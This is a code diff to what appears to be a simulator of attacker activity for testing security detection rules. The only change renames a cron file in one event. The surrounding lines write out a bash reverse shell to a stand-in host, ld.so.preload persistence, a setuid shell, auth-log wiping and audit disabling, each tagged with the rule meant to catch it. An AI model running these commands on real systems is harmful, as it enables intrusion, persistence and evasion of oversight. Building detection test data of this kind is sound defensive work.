@@ -336,7 +336,7 @@ class Organisation:
         at, root_login = clock('10:24'), {'auid': 0, 'pid': 9310}
         self.exec(at + 0.1, 'edge-1', '/usr/bin/bash', '-c', f'bash -i >& /dev/tcp/{EVIL2}/4444 0>&1', rule='linux/reverse-shell-bash-tcp', **root_login)
         self.write(at + 60.2, 'edge-1', '/etc/ld.so.preload', '/usr/bin/bash', rule='linux/ld-so-preload-written', **root_login)
-        self.write(at + 75.3, 'edge-1', '/etc/cron.d/.sync', '/usr/bin/bash', rule='linux/cron-file-written-by-unusual-program', **root_login)
+        self.write(at + 75.3, 'edge-1', '/etc/cron.d/sync', '/usr/bin/bash', rule='linux/cron-file-written-by-unusual-program', **root_login)
         self.exec(at + 90.4, 'edge-1', '/usr/bin/chmod', 'u+s', '/var/tmp/sh', rule='linux/setuid-shell', **root_login)
         self.exec(at + 130.5, 'edge-1', '/usr/bin/truncate', '-s', '0', '/var/log/auth.log', rule='linux/log-destroyed', **root_login)
         self.exec(at + 131.6, 'edge-1', '/usr/sbin/auditctl', '-e', '0', rule='linux/audit-switched-off', **root_login)
